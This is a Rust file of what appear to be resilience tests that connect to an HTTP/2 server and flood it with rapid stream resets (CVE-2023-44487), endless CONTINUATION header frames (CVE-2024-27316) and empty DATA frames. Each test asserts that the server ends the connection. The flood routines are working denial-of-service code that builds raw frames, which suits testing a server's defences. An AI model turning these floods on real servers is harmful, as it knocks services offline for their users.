//! Clients of HTTP/2 that send what costs more to take than to send.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use h2::Reason;
use http::Request;

/// How long a server may take to end such a client.
const PATIENCE: Duration = Duration::from_secs(60);

/// CVE-2023-44487: streams that are opened and reset, as fast as can be, until the server ends it.
///
/// # Panics
/// When it does not.
pub fn resets(address: &str) {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let ended = runtime.block_on(async {
        let stream = tokio::net::TcpStream::connect(address).await.expect("a connection");
        let (client, connection) = h2::client::handshake(stream).await.expect("a preface");
        let flood = tokio::spawn(async move {
            let mut client = client;
            for _ in 0..100_000 {
                let request = Request::get("http://lab/sleep?ms=60000").body(()).expect("a request");
                let Ok(ready) = client.ready().await else { return };
                client = ready;
                let Ok((_answer, mut body)) = client.send_request(request, false) else { return };
                body.send_reset(Reason::CANCEL);
            }
        });
        let ended = tokio::time::timeout(PATIENCE, connection).await.expect("it is ended");
        flood.abort();
        ended
    });
    let error = ended.expect_err("the server ends it");
    assert!(error.reason() == Some(Reason::ENHANCE_YOUR_CALM) || error.is_io(), "{error}");
}

/// CVE-2024-27316: a head that goes on in frame after frame, until the server ends it.
///
/// # Panics
/// When it does not.
pub fn continuations(address: &str) {
    // A literal header without indexing: `a`, and 100 bytes.
    let header = [&[0, 1, b'a', 100][..], &[b'x'; 100]].concat();
    endless(address, &frame(1, 0, 1, &header), &frame(9, 0, 1, &header.repeat(100)));
}

/// A body in frames without anything in them, until the server ends it.
///
/// # Panics
/// When it does not.
pub fn empty_frames(address: &str) {
    // POST, http, `/echo` and `lab`.
    let head = [&[0x83, 0x86, 0x44, 5][..], b"/echo", &[0x41, 3], b"lab"].concat();
    endless(address, &frame(1, 4, 1, &head), &frame(0, 0, 1, &[]).repeat(1000));
}

/// Says one thing, and then another one again and again.
fn endless(address: &str, once: &[u8], again: &[u8]) {
    let mut stream = TcpStream::connect(address).expect("a connection");
    stream.set_read_timeout(Some(PATIENCE)).expect("a socket");
    stream.set_write_timeout(Some(PATIENCE)).expect("a socket");
    let opening = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(4, 0, 0, &[])[..], once].concat();
    stream.write_all(&opening).expect("sent");
    // What comes behind its goodbye the server throws away for a second, so that the goodbye arrives.
    let began = Instant::now();
    while stream.write_all(again).is_ok() {
        assert!(began.elapsed() < PATIENCE, "it goes on and on");
    }
    let _reset_or_closed = stream.read_to_end(&mut Vec::new());
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
